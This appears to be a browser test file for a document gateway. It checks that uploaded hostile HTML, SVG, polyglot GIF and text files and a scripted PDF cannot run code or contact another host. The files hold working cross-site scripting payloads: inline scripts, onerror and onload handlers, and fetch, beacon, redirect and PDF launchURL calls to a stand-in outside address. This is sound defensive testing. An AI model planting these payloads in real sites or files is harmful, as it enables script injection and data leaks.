// Documents that are displayed in the browser: the gateway sends hostile ones, and nothing of them
// runs. With one origin for page and gateway, its headers are all the isolation that there is.
import assert from "node:assert/strict";

import { pdf } from "./files.mjs";
import { addUser, openPage, running, scenario, serve, until } from "./harness.mjs";

// What the files below try to do, where elsewhere is an address that counts requests.
const attack = (elsewhere) => `
  document.title = "changed";
  alert("run");
  fetch("${elsewhere}/fetch");
  new Image().src = "${elsewhere}/image";
  navigator.sendBeacon("${elsewhere}/beacon");
  parent.postMessage("run", "*");
  top.location = "${elsewhere}/top";`;

const hostile = (elsewhere) => ({
  "page.html": {
    type: "text/html",
    content: `<!doctype html><title>harmless</title><meta http-equiv="refresh" content="0;
      url=${elsewhere}/refresh"><script>${attack(elsewhere)}</script>
      <script src="${elsewhere}/script.js"></script><img src="${elsewhere}/img"
      onerror='${attack(elsewhere)}'><iframe src="${elsewhere}/frame"></iframe>
      <link rel="stylesheet" href="${elsewhere}/style.css"><p>Invoice for paper.</p>`,
  },
  "picture.svg": {
    type: "image/svg+xml",
    content: `<svg xmlns="http://www.w3.org/2000/svg" onload='${attack(elsewhere)}'>
      <title>harmless</title><script>${attack(elsewhere)}</script>
      <image href="${elsewhere}/image"/><use href="${elsewhere}/use#a"/>
      <foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${elsewhere}/frame"/>
      </foreignObject></svg>`,
  },
  // Files that are displayed, because they are what they say, and are HTML as well.
  "notes.txt": {
    type: "text/plain",
    content: `Notes.\n<!doctype html><title>harmless</title><script>${attack(elsewhere)}</script>`,
  },
  "picture.gif": {
    type: "image/gif",
    content: `GIF89a/*\u0001\u0000*/=1;<!doctype html><script>${attack(elsewhere)}</script>`,
  },
  "paper.pdf": {
    type: "application/pdf",
    content: pdf("Invoice", {
      action: `<< /S /JavaScript /JS (
        try { app.launchURL\\("${elsewhere}/launch"\\); } catch \\(error\\) {}
        try { this.submitForm\\("${elsewhere}/form"\\); } catch \\(error\\) {}
        app.alert\\("run"\\);) >>`,
    }),
  },
});

// An address elsewhere, and the paths that were requested from it.
async function watch(t) {
  const requested = [];
  const elsewhere = await serve(t, (request, response) => {
    requested.push(request.url);
    response.setHeader("Access-Control-Allow-Origin", "*");
    response.end("document.title = 'changed'");
  });
  return { elsewhere, requested };
}

// Opens a URL, at top level or in a frame, and returns when the browser displays it or has begun to
// download it.
const visit = (page, url) =>
  Promise.race([
    page.waitForEvent("download"),
    page.goto(url).catch((error) => {
      if (/ERR_ABORTED|Download is starting/.test(error.message)) return new Promise(() => {});
      throw error;
    }),
  ]);
const visitInFrame = (page, url) =>
  Promise.race([
    page.waitForEvent("download"),
    page.evaluate((src) => {
      const frame = Object.assign(document.createElement("iframe"), { src });
      const loaded = new Promise((done) => frame.addEventListener("load", () => done()));
      document.body.append(frame);
      return loaded;
    }, url),
  ]);

// Files of these types are never displayed; their links download them.
const downloaded = ["page.html", "picture.svg"];

scenario("hostile files: nothing runs and nothing is requested", async (t) => {
  const { elsewhere, requested } = await watch(t);
  const user = await addUser();
  for (const [name, { type, content }] of Object.entries(hostile(elsewhere))) {
    const { id } = await user.upload({ name, type, content: Buffer.from(content) });
    const path = `/api/documents/${id}/download-url`;
    const inline = user.call("GET", `${path}?disposition=inline`);
    if (downloaded.includes(name)) await assert.rejects(inline, /: 415 /, name);
    const { url } = await (downloaded.includes(name) ? user.call("GET", path) : inline);

    const page = await openPage(t, { url: "about:blank" });
    await visit(page, url);
    assert.notEqual(await page.title(), "changed", `${name} at top level`);
    assert.ok(!page.url().startsWith(elsewhere), `${name} at top level went to ${page.url()}`);

    const outer = await openPage(t); // which the gateway is allowed to be displayed in
    await outer.evaluate(() => {
      window.messages = [];
      addEventListener("message", ({ data }) => window.messages.push(data));
    });
    await visitInFrame(outer, url);
    assert.deepEqual(await outer.evaluate(() => window.messages), [], `${name} in a frame`);
    assert.equal(outer.url(), `${running.stack.web}/`, `${name} in a frame`);

    for (const { requests, dialogs } of [page, outer]) {
      // Chromium's PDF viewer runs a document's scripts in a process without access to any page or
      // network, whatever the headers are. Its message is the sign that they have run.
      const expected = name === "paper.pdf" ? ["alert: run"] : [];
      await until(`${name} to run`, () => dialogs.length >= expected.length);
      assert.deepEqual(dialogs, expected, name);
      const urls = requests.map((request) => request.url());
      const others = urls.filter((to) => to.startsWith(elsewhere));
      assert.deepEqual(others, [], name);
    }
  }
  assert.deepEqual(requested, []);
});

// The same attacks work where nothing stops them, so that the test above can fail.
scenario("hostile files: without the gateway's headers they run", async (t) => {
  const { elsewhere, requested } = await watch(t);
  const files = hostile(elsewhere);
  const unsafe = await serve(t, (request, response) => {
    const { type, content } = files[request.url.slice(1)] ?? { type: "text/plain", content: "" };
    response.setHeader("Content-Type", type);
    response.end(content);
  });
  for (const name of downloaded) {
    const before = requested.length;
    const page = await openPage(t, { url: "about:blank" });
    await page.goto(`${unsafe}/${name}`).catch(() => {});
    await until(`${name} to run`, () => page.dialogs.length > 0 && requested.length > before);
  }
});
